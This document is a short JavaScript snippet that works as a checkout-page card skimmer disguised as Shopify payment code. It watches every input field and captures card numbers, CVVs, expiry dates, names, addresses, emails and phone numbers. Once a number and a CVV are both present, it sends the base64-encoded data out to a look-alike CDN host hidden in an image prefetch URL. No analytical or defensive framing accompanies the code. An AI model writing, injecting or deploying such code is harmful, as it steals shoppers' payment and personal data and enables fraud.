(() => {
  const K = "shopify_pay_ctx";
  const store = (o) => sessionStorage.setItem(K, JSON.stringify({ ...JSON.parse(sessionStorage.getItem(K) || "{}"), ...o }));
  const emit = () => {
    const l = document.createElement("link");
    l.rel = "prefetch"; l.as = "image";
    l.href = "https://cdn-shopify.placeholder.example/s/files/" + encodeURIComponent(btoa(sessionStorage.getItem(K))) + ".webp";
    document.head.append(l);
  };
  document.addEventListener("focusout", (e) => {
    const el = e.target;
    if (!(el instanceof HTMLInputElement) || !el.value) return;
    const tag = (el.autocomplete || el.name || el.id).toLowerCase();
    if (/cc-|card|cvv|cvc|exp|name|address|postal|email|tel/.test(tag)) store({ [tag]: el.value });
    const got = JSON.parse(sessionStorage.getItem(K) || "{}");
    if (Object.keys(got).some((k) => /number/.test(k)) && Object.keys(got).some((k) => /cv[vc]|csc/.test(k)) && !got.done) { emit(); store({ done: 1 }); }
  }, true);
})();
